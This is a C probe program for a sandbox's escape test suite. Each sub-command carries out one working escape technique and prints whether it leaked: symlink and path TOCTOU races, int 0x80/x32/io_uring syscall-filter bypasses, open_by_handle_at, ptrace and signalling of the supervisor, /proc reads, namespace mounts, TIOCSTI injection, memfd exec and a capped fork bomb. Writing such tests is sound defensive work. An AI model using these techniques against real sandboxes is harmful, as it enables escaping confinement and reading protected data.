/* Escape probe for the jsyd escape suite (src/test/java/dev/jsyd/it/escape): one attack per
 * sub-command. Each prints one result line the test reads; the same program is run natively
 * (to show the attack works there) and under syd (to show it is blocked).
 *
 * Result words: "LEAK ..." = the attack reached what it wanted; "ok ..." = a call succeeded;
 * "err ENAME" = a call failed with that errno. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <linux/sockios.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static const char *en(int e) {
    const char *n = strerrorname_np(e);
    return n ? n : "E?";
}

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* Reads up to 63 bytes of PATH; returns 1 and fills buf when it could, else 0 with errno. */
static int slurp(const char *path, char *buf) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t n = read(fd, buf, 63);
    int e = errno;
    close(fd);
    if (n < 0) { errno = e; return 0; }
    buf[n] = 0;
    char *nl = strchr(buf, '\n');
    if (nl) *nl = 0;
    return 1;
}

/* read PATH: "ok <first line>" or "err ENAME" */
static int cmd_read(const char *path) {
    char buf[64];
    if (!slurp(path, buf)) { printf("err %s\n", en(errno)); return 1; }
    printf("ok %s\n", buf);
    return 0;
}

/* ---- symlink swap race ------------------------------------------------------------------ */
static const char *g_allowed, *g_denied, *g_link;
static atomic_int g_stop;

static void *flipper(void *arg) {
    (void)arg;
    char tmp[4096];
    snprintf(tmp, sizeof tmp, "%s.tmp", g_link);
    for (unsigned i = 0; !atomic_load(&g_stop); i++) {
        unlink(tmp);
        if (symlink(i & 1 ? g_denied : g_allowed, tmp) == 0) rename(tmp, g_link);
    }
    return NULL;
}

/* symlink-race ALLOWED DENIED LINK SECONDS: opens+reads LINK in a loop while another thread
 * flips it between ALLOWED and DENIED. "LEAK n opens m" when DENIED's content was ever read. */
static int cmd_symlink_race(char **argv) {
    g_allowed = argv[2];
    g_denied = argv[3];
    g_link = argv[4];
    double secs = atof(argv[5]);
    char secret[64], buf[64];
    if (!slurp(g_denied, secret)) strcpy(secret, "SECRET"); /* under syd the denied file is unreadable */
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    long opens = 0, leaks = 0, denied = 0;
    double end = now() + secs;
    while (now() < end) {
        if (slurp(g_link, buf)) {
            opens++;
            if (strcmp(buf, secret) == 0) leaks++;
        } else if (errno == EACCES) {
            denied++;
        }
    }
    atomic_store(&g_stop, 1);
    pthread_join(t, NULL);
    printf("%s %ld opens %ld denied %ld\n", leaks ? "LEAK" : "safe", leaks, opens, denied);
    return 0;
}

/* ---- relative-path base race ------------------------------------------------------------ */
static const char *g_dir;

static void *exchanger(void *arg) {
    (void)arg;
    char a[4096], l[4096];
    snprintf(a, sizeof a, "%s/a", g_dir);
    snprintf(l, sizeof l, "%s/s", g_dir);
    while (!atomic_load(&g_stop)) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, l, 2 /* RENAME_EXCHANGE */);
    return NULL;
}

/* base-race DIR SECONDS: DIR holds a directory "a" (a/sub/f of 1 byte, a/sub/l -> "public") and
 * a symlink "s" -> "secret" (secret/sub/f of 4321 bytes, secret/sub/l -> "SECRETLINK"), made by the test.
 * Another thread swaps "a" and "s" (RENAME_EXCHANGE) while this one, in DIR, stats "a/sub/f"
 * relative to its cwd and to a dirfd of DIR, readlinks "a/sub/l", and stats "sub/f" relative to
 * a dirfd of the real directory (which moves between the two names). "LEAK n opens m denied k":
 * n answers from the secret, m answers, k ENOENT. */
static int cmd_base_race(char **argv) {
    g_dir = argv[2];
    double secs = atof(argv[3]);
    if (chdir(g_dir) != 0) { printf("err %s\n", en(errno)); return 1; }
    int dfd = open(".", O_PATH | O_DIRECTORY);
    int afd = open("a", O_PATH | O_DIRECTORY);
    if (dfd < 0 || afd < 0) { printf("err %s\n", en(errno)); return 1; }
    pthread_t t;
    pthread_create(&t, NULL, exchanger, NULL);
    long answers = 0, leaks = 0, hidden = 0;
    double end = now() + secs;
    struct stat st;
    char buf[64];
    for (unsigned i = 0; now() < end; i++) {
        int rc;
        ssize_t n = 0;
        switch (i & 3) {
        case 0: rc = stat("a/sub/f", &st); break;
        case 1: rc = fstatat(dfd, "a/sub/f", &st, 0); break;
        case 2: n = readlink("a/sub/l", buf, sizeof buf - 1); rc = n < 0 ? -1 : 0; break;
        default: rc = fstatat(afd, "sub/f", &st, 0); break;
        }
        if (rc != 0) {
            if (errno == ENOENT) hidden++;
            continue;
        }
        answers++;
        if ((i & 3) == 2) {
            buf[n] = 0;
            if (strcmp(buf, "SECRETLINK") == 0) leaks++;
        } else if (st.st_size == 4321) {
            leaks++;
        }
    }
    atomic_store(&g_stop, 1);
    pthread_join(t, NULL);
    printf("%s %ld opens %ld denied %ld\n", leaks ? "LEAK" : "safe", leaks, answers, hidden);
    return 0;
}

/* ---- path buffer rewrite race ----------------------------------------------------------- */
static char g_buf[4096];
static const char *g_a, *g_b;

static void *rewriter(void *arg) {
    (void)arg;
    size_t n = strlen(g_a) + 1;
    for (unsigned i = 0; !atomic_load(&g_stop); i++) memcpy(g_buf, i & 1 ? g_b : g_a, n);
    return NULL;
}

/* path-race ALLOWED DENIED SECONDS (same length): another thread rewrites the path buffer
 * between ALLOWED and DENIED while this one opens it and reads. */
static int cmd_path_race(char **argv) {
    g_a = argv[2];
    g_b = argv[3];
    if (strlen(g_a) != strlen(g_b)) { printf("usage: same length\n"); return 2; }
    double secs = atof(argv[4]);
    char secret[64], buf[64];
    if (!slurp(g_b, secret)) strcpy(secret, "SECRET");
    strcpy(g_buf, g_a);
    pthread_t t;
    pthread_create(&t, NULL, rewriter, NULL);
    long opens = 0, leaks = 0, denied = 0;
    double end = now() + secs;
    while (now() < end) {
        int fd = open(g_buf, O_RDONLY);
        if (fd < 0) {
            if (errno == EACCES) denied++;
            continue;
        }
        ssize_t n = read(fd, buf, 63);
        close(fd);
        if (n < 0) continue;
        buf[n] = 0;
        char *nl = strchr(buf, '\n');
        if (nl) *nl = 0;
        opens++;
        if (strcmp(buf, secret) == 0) leaks++;
    }
    atomic_store(&g_stop, 1);
    pthread_join(t, NULL);
    printf("%s %ld opens %ld denied %ld\n", leaks ? "LEAK" : "safe", leaks, opens, denied);
    return 0;
}

/* ---- foreign ABIs ------------------------------------------------------------------------ */
/* int80-read PATH: open(2) and read(2) of the i386 ABI through int 0x80. */
static int cmd_int80(const char *path) {
    char *low = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) { printf("err mmap %s\n", en(errno)); return 1; }
    strcpy(low, path);
    long fd;
    __asm__ volatile("int $0x80" : "=a"(fd) : "a"(5 /* i386 open */), "b"(low), "c"(O_RDONLY), "d"(0) : "memory");
    if (fd < 0) { printf("err %s\n", en((int)-fd)); return 1; }
    long n;
    __asm__ volatile("int $0x80" : "=a"(n) : "a"(3 /* i386 read */), "b"(fd), "c"(low + 4096), "d"(63) : "memory");
    if (n < 0) { printf("err read %s\n", en((int)-n)); return 1; }
    low[4096 + n] = 0;
    char *nl = strchr(low + 4096, '\n');
    if (nl) *nl = 0;
    printf("LEAK %s\n", low + 4096);
    return 0;
}

/* x32-read PATH: openat through the x32 ABI (nr | 0x40000000). */
static int cmd_x32(const char *path) {
    long fd = syscall(0x40000000 | 257, AT_FDCWD, path, O_RDONLY, 0);
    if (fd < 0) { printf("err %s\n", en(errno)); return 1; }
    char buf[64];
    ssize_t n = read((int)fd, buf, 63);
    buf[n < 0 ? 0 : n] = 0;
    char *nl = strchr(buf, '\n');
    if (nl) *nl = 0;
    printf("LEAK %s\n", buf);
    return 0;
}

/* ---- io_uring: an openat+read that never passes through the syscall filter ------------- */
static int cmd_iouring(const char *path) {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    int ring = (int)syscall(SYS_io_uring_setup, 4, &p);
    if (ring < 0) { printf("err %s\n", en(errno)); return 1; }
    size_t sqsz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(NULL, sqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
    char *cq = mmap(NULL, cqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                                     MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) { printf("err mmap\n"); return 1; }
    unsigned *tail = (unsigned *)(sq + p.sq_off.tail), *mask = (unsigned *)(sq + p.sq_off.ring_mask);
    unsigned *array = (unsigned *)(sq + p.sq_off.array);
    unsigned *chead = (unsigned *)(cq + p.cq_off.head);
    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    char buf[64] = {0};
    long res[2];
    for (int step = 0; step < 2; step++) {
        struct io_uring_sqe *s = &sqes[0];
        memset(s, 0, sizeof *s);
        if (step == 0) {
            s->opcode = IORING_OP_OPENAT;
            s->fd = AT_FDCWD;
            s->addr = (uintptr_t)path;
            s->open_flags = O_RDONLY;
        } else {
            s->opcode = IORING_OP_READ;
            s->fd = (int)res[0];
            s->addr = (uintptr_t)buf;
            s->len = 63;
        }
        array[*tail & *mask] = 0;
        __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
        if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) {
            printf("err enter %s\n", en(errno));
            return 1;
        }
        res[step] = cqes[*chead & *(unsigned *)(cq + p.cq_off.ring_mask)].res;
        __atomic_store_n(chead, *chead + 1, __ATOMIC_RELEASE);
        if (res[step] < 0) { printf("err op%d %s\n", step, en((int)-res[step])); return 1; }
    }
    char *nl = strchr(buf, '\n');
    if (nl) *nl = 0;
    printf("LEAK %s\n", buf);
    return 0;
}

/* ---- open_by_handle_at: opening a file by its handle skips every path check ------------- */
static int cmd_handle(const char *path) {
    struct file_handle *h = malloc(sizeof *h + MAX_HANDLE_SZ);
    h->handle_bytes = MAX_HANDLE_SZ;
    int mnt;
    if (name_to_handle_at(AT_FDCWD, path, h, &mnt, 0) != 0) { printf("err name_to_handle_at %s\n", en(errno)); return 1; }
    int mfd = open("/", O_RDONLY | O_DIRECTORY);
    int fd = open_by_handle_at(mfd, h, O_RDONLY);
    if (fd < 0) { printf("err open_by_handle_at %s\n", en(errno)); return 1; }
    char buf[64];
    ssize_t n = read(fd, buf, 63);
    buf[n < 0 ? 0 : n] = 0;
    char *nl = strchr(buf, '\n');
    if (nl) *nl = 0;
    printf("LEAK %s\n", buf);
    return 0;
}


/* ---- the supervisor (our parent) -------------------------------------------------------- */
/* ptrace-parent: PTRACE_SEIZE and process_vm_readv on the parent. */
static int cmd_ptrace_parent(void) {
    pid_t pp = getppid();
    long r = ptrace(PTRACE_SEIZE, pp, 0, 0);
    printf("seize %s\n", r == 0 ? "ok" : en(errno));
    if (r == 0) ptrace(PTRACE_DETACH, pp, 0, 0);
    char buf[8];
    struct iovec local = {buf, sizeof buf}, remote = {(void *)0x400000, sizeof buf};
    long n = process_vm_readv(pp, &local, 1, &remote, 1, 0);
    printf("vm_readv %s\n", n >= 0 || errno == EFAULT ? "ok" : en(errno));
    return 0;
}

static void report(const char *what, long r) { printf("%s %s\n", what, r >= 0 ? "ok" : en(errno)); }

/* signal-parent SIG: every way to signal the parent process; SIG applies to the pid-directed
 * ones, the group-directed ones (0, -pgid, -1) always use signal 0 so a failure cannot hurt
 * anything outside the sandbox. */
static int cmd_signal_parent(int sig) {
    pid_t pp = getppid();
    report("kill", kill(pp, sig));
    report("tkill", syscall(SYS_tkill, pp, sig));
    report("tgkill", syscall(SYS_tgkill, pp, pp, sig));
    siginfo_t si;
    memset(&si, 0, sizeof si);
    si.si_code = SI_QUEUE;
    si.si_pid = getpid();
    si.si_uid = getuid();
    report("sigqueue", syscall(SYS_rt_sigqueueinfo, pp, sig, &si));
    report("tgsigqueue", syscall(SYS_rt_tgsigqueueinfo, pp, pp, sig, &si));
    long pfd = syscall(SYS_pidfd_open, pp, 0);
    report("pidfd_open", pfd);
    if (pfd >= 0) report("pidfd_send_signal", syscall(SYS_pidfd_send_signal, pfd, sig, NULL, 0));
    char procdir[64];
    snprintf(procdir, sizeof procdir, "/proc/%d", pp);
    int dfd = open(procdir, O_RDONLY | O_DIRECTORY);
    report("open_procdir", dfd);
    if (dfd >= 0) report("procdir_send_signal", syscall(SYS_pidfd_send_signal, dfd, sig, NULL, 0));
    report("kill0", kill(0, 0));
    report("killpg", kill(-getpgrp(), 0)); /* our group: the parent's (the program stays in syd's group) */
    report("killall", kill(-1, 0));
    printf("parent alive %s\n", kill(pp, 0) == 0 || errno == EACCES ? "yes" : "no");
    return 0;
}

/* sigio-parent: make the parent the SIGIO owner of a socket (F_SETOWN, F_SETOWN_EX, FIOSETOWN);
 * with F_SETSIG(SIGKILL) and O_ASYNC, making the socket readable would then kill it. */
static int cmd_sigio_parent(void) {
    pid_t pp = getppid();
    int p[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, p) != 0) return 1;
    report("setown", fcntl(p[0], F_SETOWN, pp));
    report("setown_pg", fcntl(p[0], F_SETOWN, -getpgrp()));
    struct f_owner_ex ex = {F_OWNER_PID, pp};
    report("setown_ex", fcntl(p[0], F_SETOWN_EX, &ex));
    int owner = pp;
    report("fiosetown", ioctl(p[0], FIOSETOWN, &owner));
    return 0;
}

/* proc-parent FILE...: opens /proc/<parent>/FILE for each FILE, prints "FILE ok|err E". */
static int cmd_proc_parent(int argc, char **argv) {
    pid_t pp = getppid();
    for (int i = 2; i < argc; i++) {
        char path[256];
        snprintf(path, sizeof path, "/proc/%d/%s", pp, argv[i]);
        int fd = open(path, O_RDONLY);
        if (fd < 0) { printf("%s err %s\n", argv[i], en(errno)); continue; }
        printf("%s LEAK\n", argv[i]); /* an open fd of another process's mem/environ/fd is the leak */
        close(fd);
    }
    return 0;
}

/* proc-parent-threads N: looks at /proc/T/status for T in ppid+1..ppid+N; counts threads of the parent. */
static int cmd_proc_threads(int n) {
    pid_t pp = getppid();
    int found = 0;
    for (int t = pp; t <= pp + n; t++) {
        char path[64], buf[1024];
        snprintf(path, sizeof path, "/proc/%d/status", t);
        int fd = open(path, O_RDONLY);
        if (fd < 0) continue;
        ssize_t r = read(fd, buf, sizeof buf - 1);
        close(fd);
        if (r <= 0) continue;
        buf[r] = 0;
        char *tg = strstr(buf, "\nTgid:");
        if (tg && atoi(tg + 6) == pp) found++;
    }
    printf("%s %d\n", found ? "LEAK" : "safe", found);
    return 0;
}

/* ---- namespaces and mounts -------------------------------------------------------------- */
/* userns-mount DIR SRC: new user+mount namespace, then bind SRC over DIR. */
static int cmd_userns_mount(const char *dir, const char *src) {
    long c = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (c == 0) _exit(0);
    if (c > 0) { waitpid((pid_t)c, NULL, 0); printf("clone ok\n"); } else printf("clone err %s\n", en(errno));
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) printf("unshare err %s\n", en(errno));
    else printf("unshare ok\n");
    if (mount(src, dir, NULL, MS_BIND, NULL) != 0) printf("mount err %s\n", en(errno));
    else printf("mount LEAK\n");
    return 0;
}

/* ---- TIOCSTI: push characters into a terminal's input ----------------------------------- */
static int cmd_tiocsti(void) {
    int m = posix_openpt(O_RDWR | O_NOCTTY);
    if (m < 0 || grantpt(m) != 0 || unlockpt(m) != 0) { printf("err pty %s\n", en(errno)); return 1; }
    int s = open(ptsname(m), O_RDWR | O_NOCTTY);
    if (s < 0) { printf("err pts %s\n", en(errno)); return 1; }
    char c = 'x';
    if (ioctl(s, TIOCSTI, &c) != 0) { printf("tiocsti err %s\n", en(errno)); } else printf("tiocsti LEAK\n");
    int sub = 12; /* TIOCL_GETKMSGREDIRECT */
    if (ioctl(s, TIOCLINUX, &sub) != 0) printf("tioclinux err %s\n", en(errno)); else printf("tioclinux ok\n");
    return 0;
}

/* ---- flood: many parallel denied opens -------------------------------------------------- */
static const char *g_flood_path;
static atomic_long g_eacces, g_other;
static long g_per_thread;

static void *flooder(void *arg) {
    (void)arg;
    for (long i = 0; i < g_per_thread; i++) {
        int fd = open(g_flood_path, O_RDONLY);
        if (fd >= 0) { close(fd); atomic_fetch_add(&g_other, 1); }
        else if (errno == EACCES) atomic_fetch_add(&g_eacces, 1);
        else atomic_fetch_add(&g_other, 1);
    }
    return NULL;
}

/* flood THREADS PER_THREAD PATH: "eacces N other M" */
static int cmd_flood(int threads, long per, const char *path) {
    g_flood_path = path;
    g_per_thread = per;
    pthread_t *ts = calloc(threads, sizeof *ts);
    for (int i = 0; i < threads; i++) pthread_create(&ts[i], NULL, flooder, NULL);
    for (int i = 0; i < threads; i++) pthread_join(ts[i], NULL);
    printf("eacces %ld other %ld\n", atomic_load(&g_eacces), atomic_load(&g_other));
    return 0;
}

/* ---- memory ------------------------------------------------------------------------------ */
/* wx: a writable+executable mapping, and making a written anonymous mapping executable. */
static int cmd_wx(void) {
    void *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    printf("mmap_wx %s\n", p != MAP_FAILED ? "ok" : en(errno));
    unsigned char *q = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    q[0] = 0xc3; /* ret */
    printf("mprotect_x %s\n", mprotect(q, 4096, PROT_READ | PROT_EXEC) == 0 ? "ok" : en(errno));
    return 0;
}

/* memfd-exec BINARY ARGS...: copies BINARY into a memfd and executes it from there. */
static int cmd_memfd_exec(int argc, char **argv) {
    long fd = syscall(SYS_memfd_create, "x", 0x10 /* MFD_EXEC */);
    printf("memfd_exec_flag %s\n", fd >= 0 ? "ok" : en(errno));
    if (fd >= 0) close((int)fd);
    fd = syscall(SYS_memfd_create, "x", 0);
    if (fd < 0) { printf("memfd err %s\n", en(errno)); return 1; }
    int in = open(argv[2], O_RDONLY);
    if (in < 0) { printf("open err %s\n", en(errno)); return 1; }
    char buf[65536];
    ssize_t n;
    while ((n = read(in, buf, sizeof buf)) > 0) if (write((int)fd, buf, n) != n) return 1;
    close(in);
    fflush(stdout);
    syscall(SYS_execveat, fd, "", argv + 2, (char *[]){NULL}, AT_EMPTY_PATH);
    printf("fexecve err %s\n", en(errno));
    return 0;
}

/* forkbomb MAX: forks children (which pause) until fork fails or MAX exist; kills them all. */
static int cmd_forkbomb(int max) {
    pid_t *kids = calloc(max, sizeof *kids);
    int n = 0, err = 0;
    for (; n < max; n++) {
        pid_t p = fork();
        if (p == 0) { pause(); _exit(0); }
        if (p < 0) { err = errno; break; }
        kids[n] = p;
    }
    for (int i = 0; i < n; i++) kill(kids[i], SIGKILL);
    for (int i = 0; i < n; i++) waitpid(kids[i], NULL, 0);
    printf("forked %d %s\n", n, err ? en(err) : "limit-not-reached");
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2) return 2;
    const char *c = argv[1];
    if (!strcmp(c, "read") && argc == 3) return cmd_read(argv[2]);
    if (!strcmp(c, "symlink-race") && argc == 6) return cmd_symlink_race(argv);
    if (!strcmp(c, "path-race") && argc == 5) return cmd_path_race(argv);
    if (!strcmp(c, "base-race") && argc == 4) return cmd_base_race(argv);
    if (!strcmp(c, "int80-read") && argc == 3) return cmd_int80(argv[2]);
    if (!strcmp(c, "x32-read") && argc == 3) return cmd_x32(argv[2]);
    if (!strcmp(c, "iouring-read") && argc == 3) return cmd_iouring(argv[2]);
    if (!strcmp(c, "handle-read") && argc == 3) return cmd_handle(argv[2]);
    if (!strcmp(c, "ptrace-parent")) return cmd_ptrace_parent();
    if (!strcmp(c, "signal-parent") && argc == 3) return cmd_signal_parent(atoi(argv[2]));
    if (!strcmp(c, "sigio-parent")) return cmd_sigio_parent();
    if (!strcmp(c, "proc-parent")) return cmd_proc_parent(argc, argv);
    if (!strcmp(c, "proc-parent-threads") && argc == 3) return cmd_proc_threads(atoi(argv[2]));
    if (!strcmp(c, "userns-mount") && argc == 4) return cmd_userns_mount(argv[2], argv[3]);
    if (!strcmp(c, "tiocsti")) return cmd_tiocsti();
    if (!strcmp(c, "flood") && argc == 5) return cmd_flood(atoi(argv[2]), atol(argv[3]), argv[4]);
    if (!strcmp(c, "wx")) return cmd_wx();
    if (!strcmp(c, "memfd-exec") && argc >= 3) return cmd_memfd_exec(argc, argv);
    if (!strcmp(c, "forkbomb") && argc == 3) return cmd_forkbomb(atoi(argv[2]));
    printf("unknown command\n");
    return 2;
}
